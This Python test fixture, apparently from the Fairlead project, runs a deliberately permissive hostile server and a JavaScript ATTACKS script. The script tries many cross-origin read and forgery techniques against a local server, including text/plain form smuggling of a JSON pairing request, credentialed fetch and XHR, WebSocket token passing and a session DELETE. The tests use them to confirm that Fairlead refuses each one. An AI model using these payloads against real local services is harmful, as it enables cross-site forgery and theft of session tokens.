"""Hostile servers, and what their pages try.

`open_hostile_server` serves a blank page under any name and records every request. It is lax on
purpose: it answers every request with content that every origin may read, so that a test can first
see an attack succeed on it and then fail on Fairlead. `ATTACKS` is the page's script: it tries
everything that a page can do to another server, and returns what it could read with each attempt.
"""

from __future__ import annotations

import asyncio
import base64
import hashlib
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from typing import Any

from playwright.async_api import Page

from fairlead.server.http.static import WEB_FOLDER

__all__ = [
    "ATTACKS",
    "HostileServer",
    "ReceivedRequest",
    "ammunition",
    "attack",
    "open_hostile_server",
]

PATIENCE_S = 10.0
MAGIC = b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11"  # RFC 6455


@dataclass(frozen=True, slots=True)
class ReceivedRequest:
    """A request that was received."""

    line: str
    headers: dict[str, str]
    body: str

    @property
    def whole(self) -> str:
        """All of it, to look for secrets in."""
        return f"{self.line}\n{self.headers}\n{self.body}"


@dataclass(slots=True)
class HostileServer:
    """A server that allows every request."""

    port: int = 0
    visitors: list[ReceivedRequest] = field(default_factory=list)
    _writers: set[asyncio.StreamWriter] = field(default_factory=set)

    def address(self, host: str = "evil.test") -> str:
        return f"http://{host}:{self.port}"

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """One connection."""
        self._writers.add(writer)
        try:
            visitor = await self._read(reader)
            self.visitors.append(visitor)
            if "sec-websocket-key" in visitor.headers:
                await self._upgrade(visitor, reader, writer)
            else:
                writer.write(_answer(visitor))
                await writer.drain()
        except (ConnectionError, asyncio.IncompleteReadError):
            pass  # Browsers open connections that they do not use.
        finally:
            self._writers.discard(writer)
            writer.close()

    def hang_up(self) -> None:
        """End every connection."""
        for writer in self._writers:
            writer.close()

    async def _read(self, reader: asyncio.StreamReader) -> ReceivedRequest:
        head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1").split("\r\n")
        pairs = (line.partition(":") for line in head[1:] if line)
        headers = {name.lower(): value.strip() for name, _, value in pairs}
        body = await reader.readexactly(int(headers.get("content-length", "0")))
        return ReceivedRequest(head[0], headers, body.decode("utf-8", "replace"))

    async def _upgrade(
        self, visitor: ReceivedRequest, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        digest = hashlib.sha1(visitor.headers["sec-websocket-key"].encode() + MAGIC).digest()
        lines = ["HTTP/1.1 101 Welcome", "Upgrade: websocket", "Connection: Upgrade"]
        lines.append(f"Sec-WebSocket-Accept: {base64.b64encode(digest).decode()}")
        if "sec-websocket-protocol" in visitor.headers:
            lines.append(f"Sec-WebSocket-Protocol: {visitor.headers['sec-websocket-protocol']}")
        writer.write("\r\n".join((*lines, "", "")).encode() + b"\x81\x06secret")
        await writer.drain()
        await reader.read()  # Until the page leaves.


def _answer(visitor: ReceivedRequest) -> bytes:
    path = visitor.line.split(" ")[1]
    kind, body = "text/html", "<!doctype html><title>evil</title>secret"
    if path.startswith("/api"):
        kind, body = "application/json", '{"secret": true}'
    if "text/event-stream" in visitor.headers.get("accept", ""):
        kind, body = "text/event-stream", "data: secret\n\n"
    if path.endswith(".js"):
        kind, body = "text/javascript", "window.loaded = 'secret'"
    if path.endswith(".svg"):
        kind, body = (
            "image/svg+xml",
            '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>',
        )
    headers = (
        f"HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {len(body)}\r\n"
        f"Access-Control-Allow-Origin: {visitor.headers.get('origin', '*')}\r\n"
        "Access-Control-Allow-Credentials: true\r\n"
        "Access-Control-Allow-Headers: authorization, content-type\r\n"
        "Access-Control-Allow-Methods: GET, POST, PUT, DELETE\r\n"
        "Access-Control-Allow-Private-Network: true\r\nConnection: close\r\n\r\n"
    )
    return (headers + body).encode()


@asynccontextmanager
async def open_hostile_server(port: int = 0) -> AsyncIterator[HostileServer]:
    """A server that means ill, as long as the block lasts."""
    hostile_server = HostileServer()
    server = await asyncio.start_server(hostile_server.serve, "127.0.0.1", port)
    hostile_server.port = server.sockets[0].getsockname()[1]
    async with server:
        yield hostile_server
        hostile_server.hang_up()


ATTACKS = r"""
async ({ base, token, code, script }) => {
  const bearer = { Authorization: `Bearer ${token}` };
  const pairing = JSON.stringify({ code, name: "evil" });
  const socket = base.replace("http", "ws");
  const soon = (promise) => Promise.race([promise, new Promise((done) => setTimeout(done, 2500, null))]);
  const read = async (path, init) => {
    const answer = await fetch(base + path, init);
    return answer.type === "opaque" ? null : `${answer.status} ${await answer.text()}`;
  };
  const element = (tag, set) => new Promise((done) => {
    const one = document.createElement(tag);
    one.onload = () => done(one);
    one.onerror = () => done(null);
    Object.assign(one, set);
    document.body.append(one);
  });
  const frame = async (address) => {
    const one = await element("iframe", { src: address });
    try { return one.contentDocument.body.innerText || null; } catch { return null; }
  };
  const form = async (enctype) => {
    const name = `frame-${enctype}`;
    const target = document.createElement("iframe");
    target.name = name;
    const one = document.createElement("form");
    Object.assign(one, { action: `${base}/api/pair`, method: "post", enctype, target: name });
    const field = document.createElement("input");
    // As plain text the name and the value make one JSON: {"code": "…", "name": "="}
    [field.name, field.value] = [pairing.replace('evil"}', ""), '"}'];
    one.append(field);
    document.body.append(target, one);
    const loaded = new Promise((done) => (target.onload = done));
    one.submit();
    await loaded;
    try { return target.contentDocument.body.innerText || null; } catch { return null; }
  };
  const listen = (path, protocols) => new Promise((done) => {
    const one = new WebSocket(socket + path, protocols);
    one.onopen = () => one.send(JSON.stringify({ type: "hello", protocol: 1, token, client: "evil" }));
    one.onmessage = (event) => done(`socket ${event.data}`);
    one.onerror = () => done(null);
  });
  const events = () => new Promise((done) => {
    const one = new EventSource(`${base}/api/sessions?token=${token}`, { withCredentials: true });
    one.onmessage = (event) => (one.close(), done(event.data));
    one.onerror = () => (one.close(), done(null));
  });
  const request = (method, path, body) => new Promise((done) => {
    const one = new XMLHttpRequest();
    one.open(method, base + path);
    one.withCredentials = true;
    one.onload = () => done(`${one.status} ${one.responseText}`);
    one.onerror = () => done(null);
    one.send(body);
  });
  const ways = {
    "fetch": () => read("/api/sessions"),
    "fetch with the token": () => read("/api/sessions", { headers: bearer }),
    "fetch with credentials": () => read("/api/sessions", { credentials: "include" }),
    "fetch no-cors": () => read("/api/sessions", { mode: "no-cors", credentials: "include" }),
    "fetch the page": () => read("/"),
    "post plain text": () => read("/api/pair", { method: "POST", body: pairing }),
    "post no-cors": () => read("/api/pair", { method: "POST", mode: "no-cors", body: pairing, keepalive: true }),
    "post JSON": () => read("/api/pair", { method: "POST", headers: { "content-type": "application/json" }, body: pairing }),
    "post a code of its own": () => read("/api/codes", { method: "POST", headers: bearer, body: "{}" }),
    "upload": () => read("/api/uploads?name=x.html", { method: "POST", mode: "no-cors", body: "<script>1</script>" }),
    "delete": () => read("/api/sessions", { method: "DELETE", headers: bearer }),
    "XHR post": () => request("POST", "/api/pair", pairing),
    "XHR get": () => request("GET", `/api/sessions?token=${token}&access_token=${token}`),
    "beacon": async () => (navigator.sendBeacon(`${base}/api/pair`, pairing), null),
    "form": () => form("application/x-www-form-urlencoded"),
    "form multipart": () => form("multipart/form-data"),
    "form plain text": () => form("text/plain"),
    "image": async () => ((await element("img", { src: `${base}/icon.svg` }))?.naturalWidth ? "image" : null),
    "script": async () => ((await element("script", { src: base + script })) ? `script ${window.loaded}` : null),
    "script of the API": async () => ((await element("script", { src: `${base}/api/sessions` })) ? "script" : null),
    "event source": () => events(),
    "frame": () => frame(`${base}/`),
    "socket": () => listen("/ws"),
    "socket with the token in its address": () => listen(`/ws?token=${token}`),
    "bridge": () => listen("/bridge", [`fairlead.token.${token}`]),
  };
  const tries = Object.entries(ways).map(async ([name, way]) => {
    try { return [name, await soon(way())]; } catch { return [name, null]; }
  });
  return Object.fromEntries(await Promise.all(tries));
}
"""
"""Takes {base, token, code, script}: good secrets, so that only who asks can be the reason for a no."""


def ammunition(token: str, code: str, base: str) -> dict[str, str]:
    """A good token and a good code: nothing but who asks may be the reason for a no."""
    return {"base": base, "token": token, "code": code, "script": script_of()}


def script_of() -> str:
    """A script of the app that every client may request."""
    return next(f"/assets/{path.name}" for path in WEB_FOLDER.glob("assets/index-*.js"))


async def attack(page: Page, given: dict[str, str]) -> Any:
    return await page.evaluate(ATTACKS, given)
